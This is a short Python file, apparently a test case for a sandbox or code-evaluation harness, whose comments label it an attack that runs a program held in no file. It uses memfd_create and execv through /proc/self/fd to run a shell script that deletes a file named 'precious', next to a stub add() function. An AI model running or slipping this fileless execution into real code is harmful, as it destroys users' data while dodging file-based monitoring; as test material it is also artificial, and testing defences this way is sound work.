# attack: run a program that is in no file
# damage: files
import os

file = os.memfd_create("x")
os.write(file, b"#!/bin/sh\nrm {DIR}/precious\n")
os.set_inheritable(file, True)
if os.fork() == 0:
    os.execv(f"/proc/self/fd/{file}", ["x"])
os.wait()


def add(a, b):
    return None
